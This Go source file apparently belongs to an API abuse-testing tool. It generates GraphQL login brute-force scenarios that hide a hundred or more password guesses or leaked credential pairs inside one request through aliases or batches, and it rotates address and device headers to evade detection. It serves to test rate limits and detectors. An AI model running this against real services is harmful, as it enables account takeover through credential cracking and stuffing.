// Package bruteforce is the graphql.alias-bruteforce misuse kind (OWASP
// API2:2023 broken authentication and API4:2023, OAT-007 credential
// cracking, OAT-008 credential stuffing): many login attempts travel
// inside one HTTP request, as aliased fields of one document or as an
// array of operations (a batch). A limit or detector that counts HTTP
// requests, or failed login requests, sees one request where a hundred
// passwords were tried. Two sources of attempts: a wordlist of mangled
// common passwords against one account, and a leaked username:password
// list. The leak is the valid credentials found.
//
// It imports only generators, its sibling kinds' wordlists and scenarios.
package bruteforce

import (
	"fmt"
	"strings"
	"time"

	"github.com/abusegate/abusegate/generators"
	"github.com/abusegate/abusegate/generators/cracking"
	"github.com/abusegate/abusegate/scenarios"
)

// ID is the kind's stable id.
const ID = "graphql.alias-bruteforce"

// DefaultPerRequest is how many attempts one HTTP request carries: far
// below the 1000 operations many servers accept in a batch, far above any
// per-request limit.
const DefaultPerRequest = 100

// Kind generates and runs alias and batch brute-force scenarios.
type Kind struct{}

var _ generators.Kind = Kind{}

// Info implements generators.Kind.
func (Kind) Info() generators.Info {
	return generators.Info{
		ID:       ID,
		Title:    "Login brute force inside one GraphQL request (aliases, batches)",
		OWASP:    []string{"API2:2023", "API4:2023"},
		OAT:      []string{"OAT-007", "OAT-008"},
		Needs:    "a GraphQL login mutation taking a username and a password and returning a token",
		LeakUnit: "valid credentials",
	}
}

// Generate targets the GraphQL login mutation twice: a wordlist against
// one account in aliased fields, and the leaked list in array batches
// (when the plan has one).
func (k Kind) Generate(s scenarios.Surface, opts generators.Options) []scenarios.Scenario {
	login, err := generators.GraphQLLoginFrom(s)
	if err != nil {
		return nil
	}
	key := "MUTATION " + login.Field
	base := func(id, mode, source, title, question, why string) scenarios.Scenario {
		p := map[string]string{"mode": mode, "source": source, "per_request": fmt.Sprint(DefaultPerRequest), "rotate": "both"}
		login.Params(p)
		return scenarios.Scenario{
			ID: id + "-" + generators.Slug(key), Kind: ID, Title: title, Question: question,
			Operations: []scenarios.Target{{Operation: key, Why: why}},
			LeakUnit:   k.Info().LeakUnit,
			Schedule:   scenarios.Schedule{Executor: scenarios.ConstantVUs, VUs: 2, Duration: time.Minute},
			Think:      scenarios.ConstantThink(200 * time.Millisecond),
			Params:     p, SLA: opts.SLA,
		}
	}
	args := fmt.Sprintf("takes %s and %s, answers %s", login.UsernameArg, login.PasswordArg, login.TokenField)
	alias := base("alias-bruteforce", "aliases", "wordlist",
		"Password guessing in aliased "+login.Field+" fields",
		fmt.Sprintf("What if one HTTP request holds %d aliased %s attempts on one account: does anything count the guesses inside a request before the password falls?", DefaultPerRequest, login.Field),
		"the login mutation "+args+"; aliases repeat it in one document")
	alias.Params["words"] = strings.Join(cracking.Words, ",")
	if len(opts.Attackers) > 0 {
		alias.Params["username"] = opts.Attackers[0].Username
	}
	out := []scenarios.Scenario{alias}
	if len(opts.Credentials) > 0 {
		batch := base("batch-bruteforce", "batch", "leaked",
			"Leaked credentials in batched "+login.Field+" operations",
			fmt.Sprintf("What if a leaked credential list is replayed %d pairs per HTTP request as a batch of %s operations: how many accounts open?", DefaultPerRequest, login.Field),
			"the login mutation "+args+"; an array body batches it")
		batch.Identities = opts.Credentials
		out = append(out, batch)
	}
	return out
}

// Program implements generators.Kind: VU i of n sends chunks i, i+n, ...
// of the attempts, per_request attempts a request, each request from
// another address and device when rotate says so. With the wordlist the
// VU stops once the account is in.
func (Kind) Program(sc scenarios.Scenario, env generators.Env) (scenarios.Program, error) {
	login, ok, err := generators.GraphQLLoginFromParams(sc.Params)
	if err != nil || !ok {
		return nil, fmt.Errorf("alias-bruteforce %s: params name no GraphQL login (login_field, login_username, login_password, token_field, endpoint): %v", sc.ID, err)
	}
	per, err := generators.Intn(sc.Params, "per_request", DefaultPerRequest)
	if err != nil || per < 1 || per > 1000 {
		return nil, fmt.Errorf("alias-bruteforce %s: per_request=%q: want an integer from 1 to 1000", sc.ID, sc.Params["per_request"])
	}
	rot, err := generators.ParseRotation(sc.Params["rotate"])
	if err != nil {
		return nil, fmt.Errorf("alias-bruteforce %s: %w", sc.ID, err)
	}
	b := &bruter{id: sc.ID, login: login, per: per, rot: rot, next: env.VU, stride: max(sc.Schedule.VUs, 1)}
	switch sc.Params["mode"] {
	case "aliases":
	case "batch":
		b.batch = true
	default:
		return nil, fmt.Errorf("alias-bruteforce %s: mode=%q: want aliases or batch", sc.ID, sc.Params["mode"])
	}
	switch sc.Params["source"] {
	case "wordlist":
		b.victim = sc.Params["username"]
		if b.victim == "" {
			return nil, fmt.Errorf("alias-bruteforce %s: source wordlist needs params username: the account to attack", sc.ID)
		}
		words := strings.FieldsFunc(sc.Params["words"], func(r rune) bool { return r == ',' || r == ' ' })
		if len(words) == 0 {
			words = cracking.Words
		}
		for _, pw := range cracking.Candidates(words) {
			b.attempts = append(b.attempts, scenarios.Identity{Username: b.victim, Password: pw})
		}
	case "leaked":
		if len(sc.Identities) == 0 {
			return nil, fmt.Errorf("alias-bruteforce %s: source leaked needs identities: a username:password list", sc.ID)
		}
		b.attempts = sc.Identities
	default:
		return nil, fmt.Errorf("alias-bruteforce %s: source=%q: want wordlist or leaked", sc.ID, sc.Params["source"])
	}
	return b, nil
}

type bruter struct {
	id           string
	login        generators.GraphQLLogin
	per          int
	batch        bool
	rot          generators.Rotation
	victim       string
	attempts     []scenarios.Identity
	next, stride int // chunk indices
	sent         int
	cracked      bool
}

// Session implements scenarios.SessionReporter: the attack acts as no
// one (it has no token); with a wordlist it is aimed at one account.
func (b *bruter) Session() scenarios.Session {
	return scenarios.Session{ID: fmt.Sprintf("%s/%d", b.id, b.sent), Identity: b.victim}
}

// Next implements scenarios.Program.
func (b *bruter) Next(prev *scenarios.Result) (scenarios.Step, bool) {
	if prev != nil && b.victim != "" {
		if _, n := b.judge(*prev); n > 0 {
			b.cracked = true
		}
	}
	from := b.next * b.per
	if b.cracked || from >= len(b.attempts) {
		return scenarios.Step{}, false
	}
	req := b.request(b.attempts[from:min(from+b.per, len(b.attempts))])
	b.rot.Apply(req.Header, b.next) // one disguise a chunk, distinct across VUs
	b.next += b.stride
	b.sent++
	req.Abusive, req.Judge = true, b.judge
	return scenarios.Step{Request: req}, true
}

// request puts the chunk's attempts in one document as aliases a0, a1,
// ..., or in a batch of one-attempt documents.
func (b *bruter) request(chunk []scenarios.Identity) scenarios.Request {
	if !b.batch {
		d := generators.NewDoc("mutation", "Attempts")
		for i, id := range chunk {
			b.login.Add(d, fmt.Sprintf("a%d", i), i, id.Username, id.Password)
		}
		return generators.GraphQLRequest(b.login.Endpoint, nil, d)
	}
	docs := make([]*generators.Doc, len(chunk))
	for i, id := range chunk {
		docs[i] = generators.NewDoc("mutation", "Attempt")
		b.login.Add(docs[i], b.login.Field, 0, id.Username, id.Password)
	}
	return generators.GraphQLBatch(b.login.Endpoint, nil, docs)
}

// judge counts the attempts whose answer holds a token: each is one
// valid username:password pair.
func (b *bruter) judge(r scenarios.Result) (scenarios.Outcome, int) {
	return generators.JudgeGraphQL(func(answers []generators.Answer) int {
		n := 0
		for _, a := range answers {
			for alias := range a.Data {
				if _, _, ok := b.login.Token(a, alias); ok {
					n++
				}
			}
		}
		return n
	})(r)
}
